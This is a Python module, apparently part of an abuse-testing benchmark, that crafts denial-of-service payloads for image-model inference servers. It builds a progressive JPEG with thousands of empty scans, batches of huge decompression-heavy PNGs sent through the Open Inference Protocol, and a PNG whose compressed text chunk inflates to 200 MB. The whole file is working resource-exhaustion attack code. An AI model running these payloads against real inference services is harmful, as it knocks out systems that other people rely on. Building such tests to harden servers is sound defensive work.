"""Pictures that cost far more than their bytes."""

import base64
import io
import json
import zlib
from typing import Final

from PIL import Image

from benchmarks.abuse.attack import Target

SIDE: Final = 4096
EMPTY_SCAN: Final = bytes.fromhex("ffda 0008 01 01 01 01 3f 00") + bytes([0b00101010] * 20)
"""A scan of all 262,144 blocks of SIDE × SIDE pixels: each code ends 27,306 of them (T.81, section G.1.2.2)."""
ONE_CODE: Final = bytes.fromhex("ffc4 0014 11 01") + bytes(15) + b"\xe0"
"""The Huffman table of those scans: one code, of one bit."""


def scans(target: Target) -> None:
    """A progressive JPEG of 9,000 scans that change nothing."""
    target.predict(jpeg(9_000), "image/jpeg")


def scans_for_later(target: Target) -> None:
    """The same with 30,000, for an answer that nobody waits for."""
    target.predict(jpeg(30_000), "image/jpeg", Prefer="respond-async")


def many_pixels(target: Target) -> None:
    """Six RGBA pictures of 4096² pixels in one request."""
    target.request("POST", f"/v2/models/{target.model}/infer", tensor([png("RGBA")] * 6))


def many_pictures(target: Target) -> None:
    """A thousand pictures of one bit a pixel, 4096² each, in 2 MB."""
    target.request("POST", f"/v2/models/{target.model}/infer", tensor([png("1")] * 1000))


def text_bomb(target: Target) -> None:
    """A PNG whose compressed text would be 200 MB."""
    packer = zlib.compressobj(9)
    text = b"".join([packer.compress(bytes(1 << 20)) for _ in range(200)]) + packer.flush()
    chunk = b"zTXt" + b"a\0\0" + text
    start = png("1")
    head = start[:33]  # signature and IHDR
    bomb = len(chunk[4:]).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    target.predict(head + bomb + start[33:], "image/png")


def jpeg(count: int) -> bytes:
    """A grey picture with so many empty scans."""
    file = io.BytesIO()
    Image.new("L", (SIDE, SIDE), 128).save(file, "JPEG", progressive=True)
    return file.getvalue().removesuffix(b"\xff\xd9") + ONE_CODE + EMPTY_SCAN * count + b"\xff\xd9"


def png(mode: str) -> bytes:
    """One colour, SIDE × SIDE."""
    file = io.BytesIO()
    Image.new(mode, (SIDE, SIDE)).save(file, "PNG", compress_level=9)
    return file.getvalue()


def tensor(files: list[bytes]) -> bytes:
    """A request of the Open Inference Protocol for these pictures."""
    data = [base64.b64encode(file).decode() for file in files]
    return json.dumps(
        {"inputs": [{"name": "input", "shape": [len(files)], "datatype": "BYTES", "data": data}]}
    ).encode()
